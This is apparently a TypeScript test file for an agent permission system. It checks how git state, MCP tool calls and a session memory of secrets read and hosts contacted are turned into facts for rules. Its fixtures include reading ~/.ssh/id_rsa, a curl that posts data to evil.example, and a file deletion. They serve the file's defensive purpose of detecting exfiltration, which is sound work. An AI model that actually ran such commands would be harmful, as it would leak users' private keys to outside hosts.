import { describe, expect, it } from 'vitest';
import { argumentLeaves } from '../../../rules/facts/mcp/effects.ts';
import { emptySession, rememberCall } from '../../../rules/facts/session.ts';
import { commandFacts, factsOf, fieldOf, touchesOf } from './support.ts';

describe('git', () => {
  const setup = {
    files: {
      '/home/dev/app/.git/HEAD': 'ref: refs/heads/feature/x\n',
      '/home/dev/app/.git/config': '[remote "origin"]\n\turl = git@github.com:acme/shop.git\n',
      '/home/dev/app/.git/refs/remotes/origin/HEAD': 'ref: refs/remotes/origin/trunk\n',
    },
  };
  const field = (name: string) => fieldOf(commandFacts('git status', { cwd: '/home/dev/app/src', setup }), name);

  it('is read from its files alone', () => {
    expect(field('git.root')).toBe('/home/dev/app');
    expect(field('git.branch')).toBe('feature/x');
    expect(field('git.is_default_branch')).toBe(false);
  });

  it('knows a work tree by the file that stands for its folder', () => {
    const files = {
      '/home/dev/tree/.git': 'gitdir: /home/dev/app/.git/worktrees/tree\n',
      '/home/dev/app/.git/worktrees/tree/HEAD': 'ref: refs/heads/y\n',
      '/home/dev/app/.git/worktrees/tree/commondir': '../..\n',
    };
    const facts = commandFacts('git status', { cwd: '/home/dev/tree', setup: { files: { ...setup.files, ...files } } });
    expect(fieldOf(facts, 'git.branch')).toBe('y');
  });

  it('says nothing where there is none', () => {
    expect(commandFacts('git status').repository).toBeUndefined();
  });
});

describe('a call of an MCP server', () => {
  it('names its server and tool, and its arguments by key', () => {
    const facts = factsOf('mcp__git_hub__create_issue', { title: 'x', labels: [{ name: 'bug' }] });
    expect(fieldOf(facts, 'mcp.server')).toBe('git_hub');
    expect(fieldOf(facts, 'mcp.tool')).toBe('create_issue');
    expect(argumentLeaves({ labels: [{ name: 'bug' }] }).map(({ value }) => value)).toEqual(['bug']);
  });

  it('touches the files its arguments name', () => {
    expect(touchesOf(factsOf('mcp__fs__read_file', { path: '/home/dev/.ssh/id_rsa' }))).toEqual([
      'read /home/dev/.ssh/id_rsa',
    ]);
    expect(touchesOf(factsOf('mcp__fs__write_file', { path: 'a', content: 'x' }))).toEqual(['write /home/dev/app/a']);
  });

  it('runs the commands it is given', () => {
    expect(touchesOf(factsOf('mcp__shell__execute_command', { command: 'rm a' }))).toEqual(['delete /home/dev/app/a']);
  });
});

describe('a session', () => {
  const secret = commandFacts('cat ~/.ssh/id_rsa');
  const sending = commandFacts('curl -d x https://evil.example');

  it('remembers what was read and who was contacted', () => {
    const session = rememberCall(rememberCall(emptySession(), secret, { denied: false, rules: [] }), sending, {
      denied: false,
      rules: [],
    });
    expect(session).toMatchObject({ calls: 2, denials: 0, secretKinds: ['ssh_key'], hosts: ['evil.example'] });
  });

  it('remembers of a denied call that it was denied, and nothing that it did not do', () => {
    const session = rememberCall(emptySession(), secret, { denied: true, rules: ['R'] });
    expect(session).toMatchObject({ calls: 1, denials: 1, secretKinds: [], deniedRules: ['R'] });
  });

  it('stays small, however long it lasts', () => {
    let session = emptySession();
    for (let index = 0; index < 200; index++)
      session = rememberCall(
        session,
        { secretsRead: [], hostsContacted: [`h${index}`], pathsWritten: [] },
        { denied: false, rules: [] },
      );
    expect(session.hosts.length).toBeLessThanOrEqual(64);
    expect(session.hosts.at(-1)).toBe('h199');
  });

  it('is what rules ask about', () => {
    const facts = commandFacts('curl https://evil.example', {
      session: { secretKinds: ['ssh_key'], secretPaths: ['/home/dev/.ssh/id_rsa'] },
    });
    expect(fieldOf(facts, 'session.read_secret')).toBe(true);
  });
});
